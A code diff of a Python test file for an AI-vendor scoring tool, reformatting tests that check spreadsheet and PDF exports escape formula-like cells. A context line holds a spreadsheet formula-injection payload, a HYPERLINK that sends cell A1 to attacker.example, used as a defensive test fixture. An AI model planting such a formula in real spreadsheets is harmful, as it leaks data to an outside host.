@@ -5,10 +5,10 @@ import io
 import openpyxl
 import pypdf
 
+from aivet.cells import safe_cell
 from extraction import Answer, Evidence, Status
 from scoring import Intake, load_profile, score
 from scoring.compare import compare
-from aivet.cells import safe_cell
 from scoring.export import comparison_pdf, comparison_xlsx, scorecard_pdf, scorecard_xlsx
 
 HOSTILE = '=HYPERLINK("https://attacker.example/?d="&A1,"Details")'
@@ -25,7 +25,14 @@ def card_with(quote: str, audit: str = "yes"):
 
 def test_cells_that_would_run_as_formulas_are_written_as_text():
     assert [safe_cell(value) for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "plain", 7)] == [
-        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "plain", 7]
+        "'=1+1",
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "plain",
+        7,
+    ]
 
 
 def test_the_scorecard_spreadsheet_holds_every_point_and_quote_and_no_formula():
@@ -44,7 +51,9 @@ def test_the_scorecard_spreadsheet_holds_every_point_and_quote_and_no_formula():
 
 def test_the_scorecard_pdf_names_vendor_decision_and_quotes():
     card = card_with("Customer may audit the processing once a year.")
-    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(scorecard_pdf(card, "Lumora <b>AI</b>"))).pages)
+    text = "".join(
+        page.extract_text() for page in pypdf.PdfReader(io.BytesIO(scorecard_pdf(card, "Lumora <b>AI</b>"))).pages
+    )
     assert "Scorecard: Lumora <b>AI</b>" in text
     assert f"score {card.score:.1f}" in text and card.decision in text
     assert "Customer may audit the processing once a year." in " ".join(text.split())  # table cells wrap lines
